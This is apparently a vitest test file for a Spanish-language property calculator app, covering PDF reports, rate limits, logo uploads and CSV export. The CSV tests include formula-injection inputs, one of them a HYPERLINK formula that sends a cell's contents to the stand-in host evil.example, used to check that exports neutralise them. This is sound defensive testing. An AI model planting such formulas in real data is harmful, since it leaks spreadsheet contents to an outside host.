import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { setImmediate } from 'node:timers/promises'
import { type CalculatorType, calculators, type SharedAnalysis } from '@cancha/contract/calculators'
import { CALCULATORS } from '@cancha/domain/calculators/calculators'
import { written } from '@cancha/domain/calculators/written'
import sharp from 'sharp'
import { extractText, getDocumentProxy, getMeta } from 'unpdf'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { field } from '../../csv.ts'
import { analysis, EXAMPLES, picture, sharedToken } from '../../testing/analyses.ts'
import { type Person, person } from '../../testing/cast.ts'
import { callAs } from '../../testing/requests.ts'
import { createTestApp, type TestApp } from '../../testing/test-app.ts'
import { keepLogo } from './logo.ts'
import { drawCard, drawReport } from './print.ts'
import { chartsOf, ticksFor } from './report/chart.ts'

let app: TestApp
let ana: Person
beforeAll(async () => {
  app = await createTestApp({ CANCHA_LIMITS: 'on' })
  ana = await person(app, { firstName: 'Ana', lastName: 'Peña Muñoz' })
})
afterAll(() => app.close())

const TYPES = Object.keys(EXAMPLES) as CalculatorType[]
const report = (who: Person, shortid: string) =>
  callAs(app, who, calculators.analysisReport, { params: { shortid } })
const csv = (who: Person, shortid: string) =>
  callAs(app, who, calculators.analysisTables, { params: { shortid } })

/** A document's words, as one reads them. */
async function wordsOf(bytes: Buffer): Promise<string> {
  const { text } = await extractText(await getDocumentProxy(new Uint8Array(bytes)), { mergePages: true })
  return text.replace(/\s+/g, ' ')
}
const plainly = (shown: string) => shown.replace(/\s+/g, ' ').replace('∞', 'infinito')

describe('the PDF of an analysis', () => {
  test.each(TYPES)(
    'of %s has every figure of the API, every table and the formula of its answer',
    async (type) => {
      const shortid = await analysis(app, ana, { type, data: EXAMPLES[type] })
      const answer = await report(ana, shortid)
      expect(answer.headers['content-type']).toBe('application/pdf')
      const words = await wordsOf(answer.rawPayload)
      const { results } = (await callAs(app, ana, calculators.analysis, { params: { shortid } })).json()
      const { groups, outputs, tables, headline } = CALCULATORS[type]
      for (const key of groups.flatMap((group) => group.outputs)) {
        const output = outputs.find((each) => each.key === key)
        expect(words, key).toContain(plainly(written(results[key], output?.unit ?? 'money')))
      }
      for (const { title, rows, columns } of tables(EXAMPLES[type])) {
        expect(words).toContain(title)
        const [last] = rows.slice(-1)
        for (const { key, unit } of columns)
          expect(words, key).toContain(plainly(written(last?.[key], unit, unit === 'money')))
      }
      const main = outputs.find(({ key }) => key === headline)
      expect(words).toContain(`= ${plainly(written(results[headline], main?.unit ?? 'money'))}`)
    },
  )

  test('carries the person’s name, its own title and language, and the structure that screen readers follow', async () => {
    const shortid = await analysis(app, ana, {
      data: EXAMPLES.flip_property,
      name: 'Mañana en Ávila «ñandú»',
    })
    const { rawPayload, headers } = await report(ana, shortid)
    expect(headers['content-disposition']).toContain("filename*=UTF-8''Ma%C3%B1ana%20en%20%C3%81vila")
    const pdf = await getDocumentProxy(new Uint8Array(rawPayload))
    expect((await getMeta(pdf)).info).toMatchObject({
      Author: 'Ana Peña Muñoz',
      Title: 'Mañana en Ávila «ñandú» · Comprar, arreglar y vender',
      Language: 'es-US',
    })
    expect((await pdf.getMarkInfo())?.Marked).toBe(true)
    const roles = JSON.stringify(await (await pdf.getPage(1)).getStructTree())
    for (const role of ['H1', 'H2', 'P', 'Figure']) expect(roles).toContain(`"role":"${role}"`)
    const words = await wordsOf(rawPayload)
    expect(words).toContain('Mañana en Ávila «ñandú»')
    expect(words).toContain('Ana Peña Muñoz')
  })

  test('is the same file for the same figures, whoever’s alphabet the name is in', async () => {
    const shortid = await analysis(app, ana, { name: '房子 🏠 \u202e casa' })
    const [one, two] = [await report(ana, shortid), await report(ana, shortid)]
    expect(one.statusCode).toBe(200)
    expect(one.rawPayload.equals(two.rawPayload)).toBe(true)
  })

  test('is drawn so many times and no more in ten minutes', async () => {
    const who = await person(app)
    const shortid = await analysis(app, who)
    for (let count = 0; count < 30; count++) await app.services.limits.count('report', String(who.id))
    expect((await report(who, shortid)).statusCode).toBe(429)
  })
})

describe('the line before the printing thread', () => {
  const report: Parameters<typeof drawReport>[0] = {
    type: 'flip_property',
    name: '',
    data: EXAMPLES.flip_property,
    author: 'Ana',
    logo: null,
    at: new Date(0),
  }
  const cardNamed = (name: string) =>
    ({ calculator_type: 'flip_property', calculator_data: {}, name, firstname: 'Ana' }) as SharedAnalysis
  const uncounted = async () => {}
  const busy = { code: 'unavailable', retryAfter: 5 }

  test('has room for reports, however many cards are asked for', async () => {
    const cards = Promise.allSettled(
      Array.from({ length: 30 }, (_, index) => drawCard(cardNamed(`de paso ${index}`), uncounted)),
    )
    await setImmediate()
    // One that is in the line already is waited for, not drawn twice.
    const same = drawCard(cardNamed('de paso 0'), () => Promise.reject(new Error('counted')))
    const reports = await Promise.all(Array.from({ length: 16 }, () => drawReport(report)))
    expect(reports.every(({ length }) => length > 1_000)).toBe(true)
    const refused = (await cards).flatMap((each) => (each.status === 'rejected' ? [each.reason] : []))
    expect(refused).toHaveLength(22)
    for (const each of refused) expect(each).toMatchObject(busy)
    expect((await same).length).toBeGreaterThan(1_000)
  })

  test('asks whoever waited too long to come back', async () => {
    await expect(drawReport(report, 0)).rejects.toMatchObject(busy)
    expect((await drawReport(report)).length).toBeGreaterThan(1_000)
  })

  test('draws so many cards for one address and no more; those that are there don’t count', async () => {
    const token = await sharedToken(app, ana, await analysis(app, ana, { name: 'primera' }))
    const another = await sharedToken(app, ana, await analysis(app, ana, { name: 'segunda' }))
    const card = (from: string, link: string) =>
      callAs(app, { ip: from }, calculators.sharedCard, { params: { token: link } })
    for (let count = 0; count < 59; count++) await app.services.limits.count('sharedCard', '192.0.2.7')
    expect((await card('192.0.2.7', token)).statusCode).toBe(200)
    const refused = await card('192.0.2.7', another)
    expect(refused.statusCode).toBe(429)
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0)
    expect((await card('192.0.2.7', token)).statusCode).toBe(200)
    expect((await card('192.0.2.8', another)).statusCode).toBe(200)
  })
})

describe('the logo of the reports', () => {
  const logo = (who: Person) =>
    callAs(app, who, calculators.reportLogo, { params: { userId: String(who.id) } })
  const keep = (who: Person, image: Buffer) =>
    callAs(app, who, calculators.keepReportLogo, {
      params: { userId: String(who.id) },
      body: { image: image.toString('base64') },
    })

  test('is drawn anew, small enough, without what the file carried, and stands on the report', async () => {
    const who = await person(app)
    const shortid = await analysis(app, who)
    const plain = (await report(who, shortid)).rawPayload
    expect((await logo(who)).statusCode).toBe(404)
    const brand = async () =>
      (await callAs(app, who, calculators.reportBrand, { params: { userId: String(who.id) } })).json()
    expect(await brand()).toEqual({ logo: false })
    const sent = await sharp(await picture(3000, 1500))
      .withExif({ IFD0: { Artist: 'canario' } })
      .jpeg()
      .toBuffer()
    expect((await keep(who, sent)).statusCode).toBe(200)
    expect(await brand()).toEqual({ logo: true })
    const kept = await logo(who)
    expect(await sharp(kept.rawPayload).metadata()).toMatchObject({ format: 'png', width: 480, height: 240 })
    expect(kept.rawPayload.includes('canario')).toBe(false)
    const own = (await report(who, shortid)).rawPayload
    expect(await wordsOf(plain)).toMatch(/^ ?Cancha/)
    expect(await wordsOf(own)).not.toMatch(/^ ?Cancha/)
    await callAs(app, who, calculators.removeReportLogo, { params: { userId: String(who.id) } })
    expect((await logo(who)).statusCode).toBe(404)
    expect((await report(who, shortid)).rawPayload.equals(plain)).toBe(true)
  })

  test.each([
    ['a text', Buffer.from('hola')],
    [
      'a drawing that could carry a program',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'),
    ],
    ['a picture that breaks off', Buffer.from('/9j/4AAQSkZJRgABAQ', 'base64')],
    ['nothing', Buffer.alloc(0)],
  ])('can’t be %s', async (_, sent) => {
    const answer = await keep(ana, sent)
    expect(answer.statusCode).toBe(400)
    expect(answer.json().issues).toMatchObject([{ path: 'body.image', msg: expect.stringMatching(/imagen/) }])
  })

  test('is known by its bytes, and may be a low line of letters, but no film', async () => {
    const who = await person(app)
    const gif = await sharp(await picture())
      .gif()
      .toBuffer()
    for (const sent of [gif, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')])
      expect((await keep(who, sent)).json().msg).toBe('Elige una imagen jpeg, png o webp')
    expect((await keep(who, await picture(300, 20))).statusCode).toBe(200)
  })

  test('waits in the same line as all pictures, and comes back when that is full', async () => {
    const who = await person(app)
    const sent = (await picture()).toString('base64')
    const all = await Promise.allSettled(
      Array.from({ length: 30 }, () => keepLogo(app.services, who.id, sent)),
    )
    const refused = all.flatMap((each) => (each.status === 'rejected' ? [each.reason] : []))
    expect(refused).toHaveLength(8)
    for (const each of refused) expect(each).toMatchObject({ code: 'unavailable', retryAfter: 5 })
  })

  describe('leaves no file behind', () => {
    /** Every file that is kept, once the work in line is done. */
    async function files(): Promise<string[]> {
      await app.runJobs()
      const folder = join(app.config.VAR_DIR, 'files')
      const found = await readdir(folder, { recursive: true, withFileTypes: true })
      return found.flatMap((each) => (each.isFile() && !each.name.endsWith('.type') ? [each.name] : []))
    }

    test('replaced, by many at once, or removed', async () => {
      const who = await person(app)
      await keep(who, await picture())
      const count = (await files()).length
      const sent = await picture()
      const answers = await Promise.all(Array.from({ length: 6 }, () => keep(who, sent)))
      expect(answers.map(({ statusCode }) => statusCode)).toEqual(Array(6).fill(200))
      expect(await files()).toHaveLength(count)
      expect((await logo(who)).statusCode).toBe(200)
      await callAs(app, who, calculators.removeReportLogo, { params: { userId: String(who.id) } })
      expect(await files()).toHaveLength(count - 1)
    })

    test('when it can’t be kept; the one before stays', async () => {
      const who = await person(app)
      await keep(who, await picture())
      const before = await files()
      const { jobs } = app.services
      const failing = { ...jobs, enqueue: () => Promise.reject(new Error('no queue')) } as typeof jobs
      const sent = (await picture()).toString('base64')
      await expect(keepLogo({ ...app.services, jobs: failing }, who.id, sent)).rejects.toThrow('no queue')
      await expect(keepLogo(app.services, 999_999_999, sent)).rejects.toMatchObject({
        code: 'unauthenticated',
      })
      expect(await files()).toEqual(before)
      expect((await logo(who)).statusCode).toBe(200)
    })
  })
})

describe('the CSV of an analysis', () => {
  test('has the mark of UTF-8, every figure with its decimals and every row of the tables', async () => {
    const shortid = await analysis(app, ana, { type: 'rental_property', data: EXAMPLES.rental_property })
    const answer = await csv(ana, shortid)
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect([...answer.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = answer.body.trimEnd().split('\r\n')
    expect(lines).toContain('"Precio de compra","100000","Purchase price"')
    expect(
      lines.some(
        (line) =>
          line.startsWith('"Pago de la hipoteca","1097.74') ||
          line.startsWith('"Pago de la hipoteca","1097.75'),
      ),
    ).toBe(true)
    expect(lines).toContain('"Ganancia sobre tu dinero","∞","Cash on cash"')
    const { tables } = CALCULATORS.rental_property
    for (const { title, rows } of tables(EXAMPLES.rental_property)) {
      const from = lines.indexOf(`"${title}"`)
      expect(from, title).toBeGreaterThan(0)
      expect(lines.slice(from + 2, from + 2 + rows.length).every((line) => /^"\d+",/.test(line))).toBe(true)
    }
  })

  test.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['  =1', `"'  =1"`],
    ['\r=1', `"'\r=1"`],
    ['dijo "sí"', '"dijo ""sí"""'],
    ['a,b', '"a,b"'],
    ['a\nb', '"a\nb"'],
    ['', '""'],
    [null, '""'],
    [-41_100, '"-41100"'],
    ['∞', '"∞"'],
  ])('%j is written %s', (cell, shown) => {
    expect(field(cell)).toBe(shown)
  })

  test('never runs what was typed as an address or a name', async () => {
    const street = '=HYPERLINK("http://evil.example?"&A1;"Abrir")'
    const shortid = await analysis(app, ana, { data: { street, purchase_price: 1 }, name: '@SUM(1+9)' })
    const cells = (await csv(ana, shortid)).body.replace('\uFEFF', '').match(/"(?:[^"]|"")*"/g) ?? []
    expect(cells.length).toBeGreaterThan(20)
    expect(cells.filter((cell) => /^"[=+@]|^"-\D/.test(cell))).toEqual([])
  })
})

describe('charts', () => {
  test.each([
    [0, 100, [0, 25, 50, 75, 100]],
    [-12, 37, [-20, 0, 20, 40]],
    [0, 0, [0]],
    [0, 518_444, [0, 200_000, 400_000, 600_000]],
  ])('from %d to %d the axis has %j', (least, most, ticks) => {
    expect(ticksFor(least, most)).toEqual(ticks)
  })

  test('are drawn of what has at least two numbers, and of nothing else', () => {
    const columns = [
      { key: 'month', label: 'Mes', unit: 'count' },
      { key: 'profit', label: 'Ganancia', unit: 'money' },
    ] as const
    const table = (rows: { month: number; profit: number | null }[]) => [
      { key: 'profit_by_month', title: 'Por mes', columns, rows },
    ]
    expect(
      chartsOf(
        table([
          { month: 2, profit: 1 },
          { month: 3, profit: 0 },
        ]),
      ),
    ).toMatchObject([{ title: 'Por mes', series: [{ label: 'Ganancia', values: [1, 0] }] }])
    expect(chartsOf(table([{ month: 2, profit: 1 }]))).toEqual([])
    expect(
      chartsOf(
        table([
          { month: 2, profit: null },
          { month: 3, profit: 1 },
        ]),
      ),
    ).toEqual([])
  })
})
